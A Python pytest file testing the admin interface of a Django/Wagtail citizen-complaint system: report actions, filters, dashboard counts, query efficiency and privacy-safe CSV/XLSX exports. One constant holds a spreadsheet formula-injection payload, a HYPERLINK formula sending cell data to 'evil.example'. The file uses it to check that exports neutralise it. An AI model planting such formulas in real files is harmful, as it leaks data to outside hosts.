"""The e-laga admin: list filters, export, processing messages and constant queries."""

import csv
import io
from http import HTTPStatus

import openpyxl
import pytest
from django.contrib.messages import get_messages
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from pengaduan.choices import StatusLaporan
from pengaduan.models import Laporan
from portal.models import Kecamatan, PerangkatDaerah
from portal.roles import MODERATOR_PENGADUAN, PETUGAS_OPD
from tests.pengaduan.factories import (
    DispatchedLaporanFactory,
    LaporanFactory,
    PetugasFactory,
    TemplateTanggapanFactory,
)

pytestmark = pytest.mark.django_db

S = StatusLaporan
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.fixture
def moderator_client(client):
    client.force_login(PetugasFactory(username="moderator", role=MODERATOR_PENGADUAN))
    return client


def _messages(response):
    return [(m.level_tag, str(m)) for m in get_messages(response.wsgi_request)]


def _act(client, laporan, action, data):
    return client.post(reverse("laporan:action", args=[laporan.pk, action]), data)


def test_verifying_changes_status_through_the_service_with_a_success_message(
    moderator_client,
):
    laporan = LaporanFactory()
    response = _act(moderator_client, laporan, "verifikasi", {})
    laporan.refresh_from_db()
    assert laporan.status == S.DIVERIFIKASI
    assert laporan.linimasa.get().author.username == "moderator"
    assert ("success", f"Laporan {laporan.kode_lacak} telah diverifikasi.") in (
        _messages(response)
    )


def test_rejecting_without_a_reason_shows_an_error_and_changes_nothing(
    moderator_client,
):
    laporan = LaporanFactory()
    response = _act(moderator_client, laporan, "tolak", {"tolak-alasan": "  "})
    laporan.refresh_from_db()
    assert laporan.status == S.BARU
    assert laporan.linimasa.count() == 0
    assert [level for level, _text in _messages(response)] == ["error"]


def test_dispatching_to_an_inactive_office_shows_an_error_and_changes_nothing(
    moderator_client,
):
    laporan = LaporanFactory(status=S.DIVERIFIKASI, batas_waktu=None)
    closed_office = PerangkatDaerah.objects.get(slug="setwan")
    closed_office.aktif = False
    closed_office.save()
    response = _act(
        moderator_client,
        laporan,
        "disposisi",
        {"disposisi-perangkat_daerah": closed_office.pk},
    )
    laporan.refresh_from_db()
    assert laporan.status == S.DIVERIFIKASI
    assert laporan.perangkat_daerah is None
    assert [level for level, _text in _messages(response)] == ["error"]


def test_an_action_invalid_for_the_status_shows_an_error(moderator_client):
    laporan = DispatchedLaporanFactory()
    response = _act(moderator_client, laporan, "tutup", {})
    laporan.refresh_from_db()
    assert laporan.status == S.DIDISPOSISIKAN
    assert [level for level, _text in _messages(response)] == ["error"]


def test_an_internal_followup_keeps_the_status_and_is_not_public(moderator_client):
    laporan = DispatchedLaporanFactory()
    _act(
        moderator_client,
        laporan,
        "tindak-lanjut",
        {"tindak-lanjut-pesan": "Menunggu anggaran."},
    )
    laporan.refresh_from_db()
    assert laporan.status == S.DIDISPOSISIKAN
    assert not laporan.linimasa.get().is_public


def test_the_detail_shows_only_the_actions_valid_for_the_status(moderator_client):
    laporan = LaporanFactory()
    html = moderator_client.get(
        reverse("laporan:inspect", args=[laporan.pk])
    ).content.decode()
    assert reverse("laporan:action", args=[laporan.pk, "verifikasi"]) in html
    assert reverse("laporan:action", args=[laporan.pk, "tolak"]) in html
    assert reverse("laporan:action", args=[laporan.pk, "selesaikan"]) not in html
    assert reverse("laporan:action", args=[laporan.pk, "tutup"]) not in html


def test_a_chosen_template_fills_the_answer_and_other_categories_are_not_offered(
    moderator_client,
):
    laporan = DispatchedLaporanFactory()
    own = TemplateTanggapanFactory(kategori=laporan.kategori, isi="Tim PUPR meninjau.")
    general = TemplateTanggapanFactory(kategori=None)
    other = TemplateTanggapanFactory(kategori=LaporanFactory().kategori)
    response = moderator_client.get(
        reverse("laporan:inspect", args=[laporan.pk]), {"template": own.pk}
    )
    html = response.content.decode()
    assert "Tim PUPR meninjau." in html
    choices = list(response.context["template_form"].fields["template"].queryset)
    assert own in choices
    assert general in choices
    assert other not in choices


def test_the_dispatch_form_proposes_the_categorys_office(moderator_client):
    laporan = LaporanFactory(status=S.DIVERIFIKASI, batas_waktu=None)
    response = moderator_client.get(reverse("laporan:inspect", args=[laporan.pk]))
    form = next(
        item["form"]
        for item in response.context["action_forms"]
        if item["action"].name == "disposisi"
    )
    assert (
        form["perangkat_daerah"].value() == laporan.kategori.perangkat_daerah_default_id
    )


def test_the_overdue_filter_lists_only_reports_past_their_deadline(moderator_client):
    late = DispatchedLaporanFactory(
        batas_waktu=timezone.localdate() - timezone.timedelta(days=3)
    )
    on_time = DispatchedLaporanFactory()
    response = moderator_client.get(reverse("laporan:index"), {"terlambat": "true"})
    assert list(response.context["object_list"]) == [late]
    html = response.content.decode()
    assert "Terlambat" in html
    assert on_time.kode_lacak not in html


@pytest.mark.parametrize("field", ["status", "kecamatan", "perangkat_daerah"])
def test_the_list_filters_by_status_kecamatan_and_office(moderator_client, field):
    new = LaporanFactory()
    dispatched = DispatchedLaporanFactory(
        kecamatan=Kecamatan.objects.get(slug="stabat"),
        desa=None,
    )
    params = {
        "status": {"status": S.BARU},
        "kecamatan": {"kecamatan": dispatched.kecamatan_id},
        "perangkat_daerah": {"perangkat_daerah": dispatched.perangkat_daerah_id},
    }[field]
    response = moderator_client.get(reverse("laporan:index"), params)
    expected = new if field == "status" else dispatched
    assert list(response.context["object_list"]) == [expected]


def test_the_export_has_no_reporter_identity(moderator_client):
    laporan = DispatchedLaporanFactory()
    response = moderator_client.get(reverse("laporan:index"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    assert laporan.kode_lacak in content
    assert "Kode lacak" in content.splitlines()[0]
    for identity in (laporan.nama_pelapor, laporan.email, laporan.telepon, "1205"):
        assert identity not in content


def test_the_csv_export_shows_a_formula_like_title_as_text(moderator_client):
    laporan = LaporanFactory(judul=HYPERLINK)
    response = moderator_client.get(reverse("laporan:index"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode()
    row = next(
        row for row in csv.reader(io.StringIO(content)) if row[0] == laporan.kode_lacak
    )
    assert row[2] == "'" + HYPERLINK


def test_the_xlsx_export_stores_a_formula_like_title_as_text(moderator_client):
    LaporanFactory(judul=HYPERLINK)
    response = moderator_client.get(reverse("laporan:index"), {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    title = next(
        cell
        for row in workbook.active.iter_rows()
        for cell in row
        if cell.value == HYPERLINK
    )
    assert title.data_type == "s"


def test_the_list_keeps_a_constant_number_of_queries(moderator_client):
    def count_queries(reports):
        Laporan.objects.all().delete()
        DispatchedLaporanFactory.create_batch(reports)
        with CaptureQueriesContext(connection) as queries:
            response = moderator_client.get(reverse("laporan:index"))
        assert response.status_code == HTTPStatus.OK
        return len(queries)

    assert count_queries(3) == count_queries(30)


def test_the_dashboard_panel_counts_the_officers_scope_and_lists_overdue_reports(
    client,
):
    yesterday = timezone.localdate() - timezone.timedelta(days=1)
    late = DispatchedLaporanFactory(batas_waktu=yesterday, judul="Drainase tersumbat")
    DispatchedLaporanFactory(
        perangkat_daerah=PerangkatDaerah.objects.get(slug="dinkes"),
        batas_waktu=yesterday,
        judul="Antrean puskesmas",
    )
    client.force_login(
        PetugasFactory(username="pupr", role=PETUGAS_OPD, opd="dinas-pupr")
    )
    html = client.get(reverse("wagtailadmin_home")).content.decode()
    assert "Laporan e-laga" in html
    assert late.judul in html
    assert "Antrean puskesmas" not in html
    assert "?terlambat=true" in html


def test_the_dashboard_panel_keeps_a_constant_number_of_queries(moderator_client):
    def count_queries(reports):
        Laporan.objects.all().delete()
        DispatchedLaporanFactory.create_batch(
            reports, batas_waktu=timezone.localdate() - timezone.timedelta(days=2)
        )
        with CaptureQueriesContext(connection) as queries:
            moderator_client.get(reverse("wagtailadmin_home"))
        return len(queries)

    assert count_queries(2) == count_queries(15)


def test_moderators_may_correct_only_the_kind_not_the_text_privacy_or_status(
    moderator_client,
):
    laporan = DispatchedLaporanFactory()
    response = moderator_client.get(reverse("laporan:edit", args=[laporan.pk]))
    fields = set(response.context["form"].fields)
    assert fields == {"jenis"}
